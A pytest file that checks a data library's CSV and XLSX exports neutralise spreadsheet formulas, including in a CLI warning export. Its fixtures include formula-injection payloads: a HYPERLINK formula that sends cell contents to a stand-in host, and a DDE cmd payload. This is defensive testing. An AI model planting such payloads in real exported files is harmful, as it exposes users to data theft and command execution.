"""write_table: formats by extension, and spreadsheet exports that cannot run formulas."""

from __future__ import annotations

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from pyproj import Transformer
from shapely.geometry import box

from data.io import FORMULA_PREFIXES, neutralise_formulas, write_table
from data.workspace import Config, Workspace

LINK = '=HYPERLINK("http://x.example/"&A1,"y")'
CRS = "EPSG:32648"


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "area_id": pd.Series(["a", "b", "c", "d", "e", "f", "g"], dtype="str"),
        "name": pd.Series([LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "云岩区"], dtype="str"),
        "mixed": pd.Series(["=1+1", 5, None, -2.5, "ok", "-x", "3"], dtype=object),
        "n": [-3, 0, 1, 2, 3, 4, 5],
        "x": [-1.5, np.nan, 2.0, 3.0, 0.0, -0.0, 1e9],
        "=col": ["a"] * 7,
    })


def test_neutralise_formulas_text_only():
    f = _frame()
    out = neutralise_formulas(f)
    assert out["name"].tolist()[:6] == ["'" + v for v in f["name"].tolist()[:6]]
    assert out["name"].iloc[6] == "云岩区"
    assert out["mixed"].tolist()[:2] == ["'=1+1", 5] and out["mixed"].iloc[3] == -2.5
    assert out["mixed"].iloc[5] == "'-x" and out["mixed"].iloc[6] == "3"
    assert out["n"].tolist() == f["n"].tolist() and out["n"].dtype == f["n"].dtype  # numbers stay numbers
    assert list(out.columns) == ["area_id", "name", "mixed", "n", "x", "'=col"]
    assert f["name"].iloc[0] == LINK  # the input is not changed
    for v in out.select_dtypes(exclude="number").stack():
        assert not (isinstance(v, str) and v.startswith(FORMULA_PREFIXES))


def test_csv_and_xlsx_exports_hold_no_formula(tmp_path):
    f = _frame()
    csv = write_table(f, tmp_path / "t.csv")
    back = pd.read_csv(csv, encoding="utf-8-sig", keep_default_na=False)
    assert back["name"].iloc[0] == "'" + LINK and back["n"].tolist() == f["n"].tolist()
    assert back.columns[-1] == "'=col"
    xlsx = write_table(f, tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + LINK in values and "'=col" in values
    nums = [c.value for c in wb.active["D"][1:]]  # column n
    assert nums == [-3, 0, 1, 2, 3, 4, 5]
    assert pd.read_excel(xlsx)["x"].iloc[0] == -1.5


def test_unknown_extension_and_geometry(tmp_path):
    f = gpd.GeoDataFrame({"name": [LINK]}, geometry=[box(0, 0, 1, 1)], crs=4326)
    with pytest.raises(ValueError, match=r"--out .*\.txt: unknown extension"):
        write_table(f, tmp_path / "t.txt")
    write_table(f, tmp_path / "t.xlsx")  # geometry dropped, like CSV
    assert [c.value for c in openpyxl.load_workbook(tmp_path / "t.xlsx").active[1]] == ["name"]
    write_table(f, tmp_path / "t.geojson")  # not a spreadsheet: kept as given
    assert gpd.read_file(tmp_path / "t.geojson")["name"].iloc[0] == LINK


@pytest.fixture(scope="module")
def link_workspace(tmp_path_factory):
    """Two 网格 over 60 weeks, one named by a formula."""
    from data.pipeline import refresh

    ws = Workspace.create(tmp_path_factory.mktemp("ws"), Config(name="测试市", crs=CRS))
    grids = gpd.GeoDataFrame(
        {"area_id": ["G1", "G2"], "name": [LINK, "网格二"], "level": "grid", "parent_id": None},
        geometry=[box(500_000, 2_900_000, 501_000, 2_901_000), box(501_000, 2_900_000, 502_000, 2_901_000)],
        crs=CRS)
    grids.to_parquet(ws.area_path("grid"))
    rng = np.random.default_rng(3)
    n = 900
    x, y = rng.uniform(500_010, 501_990, n), rng.uniform(2_900_010, 2_900_990, n)
    lon, lat = Transformer.from_crs(CRS, 4326, always_xy=True).transform(x, y)
    t = pd.Timestamp("2024-01-01") + pd.to_timedelta(rng.uniform(0, 60 * 7 * 86400, n), unit="s")
    inc = gpd.GeoDataFrame({"incident_id": [f"i{i}" for i in range(n)], "occurred_at": t.astype("datetime64[us]"),
                            "category": "盗窃", "lon": lon, "lat": lat},
                           geometry=gpd.points_from_xy(lon, lat), crs=4326)
    inc.to_parquet(ws.incidents_path)
    refresh(ws)
    return ws


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_warn_out_neutralises_area_names(link_workspace, tmp_path, suffix):
    try:
        from app import main
    except ImportError:  # the CLI before it moved into app.py
        from analytics.cli import main

    out = tmp_path / f"warn{suffix}"
    assert main(["warn", "--workspace", str(link_workspace.path), "--level", "grid", "--out", str(out)]) == 0
    if suffix == ".csv":
        text = out.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text
        assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    else:
        cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
